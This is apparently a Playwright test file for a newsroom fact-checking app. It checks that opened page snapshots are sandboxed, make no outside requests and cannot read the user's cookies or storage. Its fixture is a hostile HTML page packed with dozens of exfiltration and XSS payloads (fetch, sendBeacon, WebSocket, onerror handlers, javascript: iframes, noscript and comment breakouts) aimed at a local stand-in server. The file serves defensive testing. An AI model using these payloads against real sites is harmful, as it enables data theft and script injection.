import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page } from '@playwright/test';
import { test } from './newsroom/newsroom';

/** A page that tries every way out it can think of, to `leak`; what runs in it would call itself `taken`. */
const hostilePage = (leak: string): string => `<!doctype html><html manifest="${leak}appcache"><head><title>Eels</title>
  <base href="${leak}base/"><meta http-equiv="refresh" content="0;url=${leak}refresh">
  <meta http-equiv="set-cookie" content="taken=1"><meta http-equiv="x-dns-prefetch-control" content="on">
  <meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${leak}report">
  <meta name="referrer" content="unsafe-url">
  <link rel="stylesheet" href="${leak}style.css"><link rel="icon" href="${leak}icon.ico"><link rel="preload" as="image" href="${leak}preload">
  <link rel="preload" as="font" crossorigin href="${leak}preload-font"><link rel="preload" as="image" imagesrcset="${leak}preload-set 1x">
  <link rel="prefetch" href="${leak}prefetch"><link rel="prerender" href="${leak}prerender"><link rel="dns-prefetch" href="${leak}"><link rel="preconnect" href="${leak}">
  <link rel="manifest" href="${leak}manifest"><link rel="modulepreload" href="${leak}module.js"><link rel="import" href="${leak}import.html">
  <link rel="alternate stylesheet" href="${leak}alternate.css"><link rel="apple-touch-icon" href="${leak}touch.png">
  <script type="speculationrules">{"prefetch":[{"urls":["${leak}speculation"]}],"prerender":[{"urls":["${leak}speculated"]}]}</script>
  <script type="importmap">{"imports":{"a":"${leak}map.js"}}</script><script type="module">import "${leak}imported.js"</script>
  <style>@import "${leak}import.css"; @import url(${leak}import-url.css); @font-face { font-family: f; src: url(${leak}font) }
    body { background: url(${leak}background); font-family: f; cursor: url(${leak}cursor), auto } li { list-style: url(${leak}bullet) }
    p::before { content: url(${leak}content) } h1 { background: image-set("${leak}set" 1x) }</style>
  <script src="${leak}script.js"></script>
  <script>window.taken = 1; fetch("${leak}fetch"); new Image().src = "${leak}image"; document.title = "taken";
    navigator.sendBeacon("${leak}beacon"); new WebSocket("${leak}socket".replace("http", "ws")); new EventSource("${leak}events");
    document.cookie = "taken=1"; open("${leak}open")</script>
  </head><body onload="location='${leak}onload'" background="${leak}body">
  <h1>Eels are back</h1><p style="background: url(${leak}inline)">38 eels passed the weir.</p>
  <img src="${leak}img" srcset="${leak}srcset 2x" lowsrc="${leak}low" onerror="fetch('${leak}onerror')">
  <picture><source srcset="${leak}source"><img src="${leak}picture"></picture><img src="x" onerror="window.taken = 2">
  <iframe src="${leak}iframe"></iframe><iframe srcdoc="<img src='${leak}srcdoc'><script>parent.taken = 3</script>"></iframe>
  <iframe src="javascript:fetch('${leak}javascript')"></iframe><iframe src="data:text/html,<img src=${leak}data>"></iframe>
  <object data="${leak}object"></object><object type="image/svg+xml" data="${leak}object.svg"></object>
  <object><param name="movie" value="${leak}movie"></object><embed src="${leak}embed"><applet code="a" codebase="${leak}applet"></applet>
  <video src="${leak}video" poster="${leak}poster" autoplay><track src="${leak}track" default></video><audio src="${leak}audio" autoplay></audio>
  <bgsound src="${leak}bgsound"><blockquote cite="${leak}cite">q</blockquote>
  <svg onload="fetch('${leak}svg')"><script>window.taken = 4; fetch("${leak}svg-script")</script><script href="${leak}svg-script.js"></script>
    <image href="${leak}svg-image"/><image xlink:href="${leak}svg-xlink"/><use href="${leak}use#a"/><style>@import "${leak}svg.css";</style>
    <animate attributeName="href" values="${leak}animate"/><feImage href="${leak}filter"/><rect fill="url(${leak}fill#a)"/>
    <foreignObject><img src="${leak}foreign"></foreignObject><a href="${leak}svg-link"><text>x</text></a></svg>
  <math><mtext><mglyph><style><img src="${leak}math" onerror="window.taken = 5"></style></mglyph></mtext></math>
  <form action="${leak}form" method="post"><input name="a" autofocus onfocus="this.form.submit()"><input type="image" src="${leak}input">
    <button formaction="${leak}formaction">go</button></form>
  <details open ontoggle="fetch('${leak}toggle')"><summary>More</summary></details><marquee onstart="fetch('${leak}marquee')">x</marquee>
  <a id="a" href="${leak}link" ping="${leak}ping" autofocus onfocus="this.click()">Read the full article</a>
  <table background="${leak}table"><tr><td background="${leak}cell">1990</td></tr></table>
  <noscript><img src="${leak}noscript"><p title="</noscript><img src=${leak}broken-out onerror='window.taken = 6'>"></noscript>
  <template><img src="${leak}template"></template><frameset><frame src="${leak}frame"></frameset>
  <title><img src="${leak}title" onerror="window.taken = 7"></title><textarea></textarea><img src="${leak}textarea"></textarea>
  <!--><img src="${leak}comment" onerror="window.taken = 8">--><style><!--</style><img src="${leak}style-comment"></body></html>`;

const ask = async <Data>(page: Page, query: string, variables: object): Promise<Data> => {
  const response = await page.request.post('/graphql', { data: { query, variables } });
  const { data } = (await response.json()) as { data: Data };
  return data;
};

/** Brings a page as a snapshot of a new source; gives the address that it is opened at, as the newsroom is sent there. */
const brought = async (page: Page, html: string): Promise<string> => {
  const { desks } = await ask<{ desks: { id: string }[] }>(page, '{ desks { id } }', {});
  const { createFactCheck } = await ask<{ createFactCheck: { openRound: { id: string } } }>(
    page,
    'mutation ($input: CreateFactCheckInput!) { createFactCheck(input: $input) { ... on FactCheck { openRound { id } } } }',
    { input: { deskId: desks[0]?.id, question: 'How many eels pass the weir in a dry year?' } },
  );
  const roundId = createFactCheck.openRound.id;
  const { addSource } = await ask<{ addSource: { id: string } }>(
    page,
    'mutation ($input: AddSourceInput!) { addSource(input: $input) { ... on Source { id } } }',
    { input: { roundId, source: { title: 'Eels', reference: 'A page' } } },
  );
  const sent = await page.request.post(`/api/rounds/${roundId}/sources/${addSource.id}/snapshots?name=page.html`, {
    data: Buffer.from(html),
  });
  expect(sent.status()).toBe(201);
  const { round } = await ask<{ round: { sources: { snapshots: { pageAddress: string }[] }[] } }>(
    page,
    'query ($id: ID!) { round(id: $id) { sources { snapshots { pageAddress } } } }',
    { id: roundId },
  );
  const opening = round.sources[0]?.snapshots[0]?.pageAddress ?? '';
  const opened = await page.request.get(opening, { maxRedirects: 0 });
  return opened.headers()['location'] ?? '';
};

/** A server of somebody else, and everything that reaches it: requests, bytes of whatever, and mere connections. */
class ThirdParty {
  readonly asked: string[] = [];
  connections = 0;
  bytes = 0;
  private readonly server: Server = createServer((request, response) => {
    this.asked.push(request.url ?? '');
    response.end();
  }).on('connection', (socket) => {
    this.connections += 1;
    socket.on('data', (chunk: Buffer) => void (this.bytes += chunk.length));
  });

  /** Gives its address. */
  async open(): Promise<string> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}/`;
  }

  async close(): Promise<void> {
    this.server.closeAllConnections();
    await new Promise((resolve) => this.server.close(resolve));
  }
}

/** What a script would have within reach, had it one; asked with the developer tools, which no sandbox keeps out. */
const withinReach = (page: Page): Promise<Record<string, unknown>> =>
  page.evaluate(() => {
    const attempt = (read: () => unknown): unknown => {
      try {
        return read();
      } catch (error) {
        return (error as Error).name;
      }
    };
    return {
      origin: self.origin,
      cookies: attempt(() => document.cookie),
      localStorage: attempt(() => localStorage.length),
      sessionStorage: attempt(() => sessionStorage.length),
      databases: attempt(() => indexedDB.open('y-indexeddb').readyState),
      worker: attempt(() => navigator.serviceWorker.controller),
      opener: opener as unknown,
      taken: (window as { taken?: unknown }).taken ?? null,
      title: document.title,
    };
  });

test('opening a snapshot asks nobody for anything', async ({ newsroom, browser }) => {
  const thirdParty = new ThirdParty();
  const leak = await thirdParty.open();
  const html = hostilePage(leak);
  const writer = await newsroom.signIn('writer');
  const path = await brought(writer, html);
  const url = new URL(path, writer.url()).href;
  // The same window, with the writer's cookies: they are what must stay out of reach.
  const context = writer.context();
  const nothing = {
    origin: 'null',
    cookies: 'SecurityError',
    localStorage: 'SecurityError',
    sessionStorage: 'SecurityError',
    databases: 'SecurityError',
    worker: 'SecurityError',
    opener: null,
    taken: null,
  };

  await test.step('as it is served', async () => {
    const page = await context.newPage();
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await page.goto(url);
    await expect(page.getByText('38 eels passed the weir.')).toBeVisible();
    await page.waitForLoadState('networkidle');
    expect(requests).toEqual([url]);
    expect([thirdParty.asked, thirdParty.connections]).toEqual([[], 0]);
    expect(page.url()).toBe(url);
    expect(await withinReach(page)).toEqual({ ...nothing, title: '' });
    await page.close();
  });

  await test.step('behind its policy alone, were nothing left out of it', async () => {
    const page = await context.newPage();
    await page.route(url, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: html });
    });
    await page.goto(url);
    await expect(page.getByText('38 eels passed the weir.')).toBeVisible();
    await page.waitForLoadState('networkidle');
    // Chromium connects in advance for a frame that it then refuses to fill, and says nothing there: what is left out of
    // the page (above) does not even do that.
    expect([thirdParty.asked, thirdParty.bytes]).toEqual([[], 0]);
    expect(page.url()).toBe(url);
    expect(await withinReach(page)).toEqual({ ...nothing, title: 'Eels' });
    // The writer is still who they were: the page set no cookie and took none away.
    expect((await context.cookies()).map(({ name }) => name)).not.toContain('taken');
    await page.close();
  });

  await test.step('which is what keeps it in', async () => {
    const elsewhere = await browser.newContext();
    const page = await elsewhere.newPage();
    await page.route(url, (route) => route.fulfill({ contentType: 'text/html', body: html }));
    await page.goto(url, { waitUntil: 'commit' }).catch(() => undefined);
    // It leaves for the other server at once; the first request is enough to tell.
    await expect.poll(() => thirdParty.asked.length).toBeGreaterThan(0);
    await elsewhere.close();
  });
  await thirdParty.close();
});
